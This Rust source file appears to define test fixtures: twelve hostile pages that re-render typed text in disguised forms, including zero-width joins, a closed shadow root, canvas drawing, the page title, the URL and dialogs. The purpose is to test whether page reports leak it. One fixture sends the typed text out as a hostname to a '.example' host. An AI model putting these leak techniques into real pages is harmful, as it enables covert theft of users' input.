//! Pages that show typed text in another spelling, in which a report of the page might reveal it.
//!
//! Each page updates the copy with every key stroke.

use super::hostility::Hostility;

pub(super) const COPIES: [Hostility; 12] = [
    Hostility::both(
        "copy-by-fours",
        "<p id=\"copy\"></p>",
        "addEventListener('input', () => { document.getElementById('copy').textContent = typed().slice(6).replace(/(.{4})/g, '$1 '); });",
    ),
    Hostility::both(
        "copy-in-boxes",
        "<p id=\"boxes\"></p>",
        "addEventListener('input', () => {
  const boxes = [...typed().slice(6)].map((letter) => {
    const box = document.createElement('b');
    box.textContent = letter;
    return box;
  });
  document.getElementById('boxes').replaceChildren(...boxes);
});",
    ),
    Hostility::both(
        "copy-without-width",
        "<p id=\"thin\"></p>",
        "addEventListener('input', () => { document.getElementById('thin').textContent = [...typed().slice(6)].join('\\u200b'); });",
    ),
    Hostility::both(
        "copy-behind-words",
        "<p id=\"far\"></p>",
        "addEventListener('input', () => { document.getElementById('far').textContent = 'x'.repeat(92) + ' ' + typed().slice(6); });",
    ),
    Hostility::both(
        "copy-in-the-shadow",
        "<div id=\"shadow\"></div>",
        "const root = document.getElementById('shadow').attachShadow({ mode: 'closed' });
addEventListener('input', () => { root.textContent = typed().slice(6); });",
    ),
    Hostility::both(
        "copy-behind-an-element",
        "<style id=\"behind\"></style>",
        "addEventListener('input', () => { document.getElementById('behind').textContent = `h1::after { content: ${JSON.stringify(typed().slice(6).toUpperCase())} }`; });",
    ),
    Hostility::both(
        "copy-on-a-canvas",
        "<canvas id=\"drawn\"></canvas>",
        "const pen = document.getElementById('drawn').getContext('2d');
pen.font = '20px sans-serif';
addEventListener('input', () => { pen.clearRect(0, 0, 300, 150); pen.fillText(typed().slice(6), 0, 20); });",
    ),
    Hostility::script(
        "copy-in-the-title",
        "addEventListener('input', () => { document.title = 'y'.repeat(190) + typed().slice(6).toUpperCase(); });",
    ),
    Hostility::script(
        "copy-in-the-address",
        "addEventListener('input', () => { history.replaceState(null, '', '#' + btoa(unescape(encodeURIComponent(typed().slice(6))))); });",
    ),
    Hostility::script(
        "copy-encoded-twice",
        "addEventListener('input', () => { history.replaceState(null, '', '?q=' + encodeURIComponent([...typed().slice(6)].map((letter) => '%' + letter.charCodeAt(0).toString(16)).join(''))); });",
    ),
    Hostility::script(
        "copy-in-a-dialog",
        "addEventListener('input', () => { if (typed().length > 16) setTimeout(() => alert('z '.repeat(46) + typed().slice(6))); }, { once: true });",
    ),
    Hostility::script(
        "copy-as-a-host",
        "addEventListener('input', () => { fetch('http://' + typed().slice(6).toLowerCase() + '.example/').catch(() => 0); });",
    ),
];
